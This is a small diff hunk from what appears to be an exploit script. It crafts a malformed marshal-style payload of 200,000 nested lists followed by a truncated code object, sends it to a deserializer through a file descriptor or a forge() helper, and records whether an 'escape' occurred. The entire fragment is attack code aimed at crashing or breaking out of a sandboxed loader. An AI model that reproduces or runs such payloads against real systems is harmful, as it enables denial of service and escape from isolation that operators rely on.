@@ -6,5 +6,5 @@
 
 # 200,000 nested lists; behind them the opening of a code object.
 payload = b"{" + b"u\x05\x00\x00\x00value" + b"[\x01\x00\x00\x00" * 200000 + b"c" + b"\xff" * 64
-os.write(3, b"D" + len(payload).to_bytes(4, "little") + payload)
+forge(payload)
 result = {"escaped": False, "detail": "nothing blew up"}
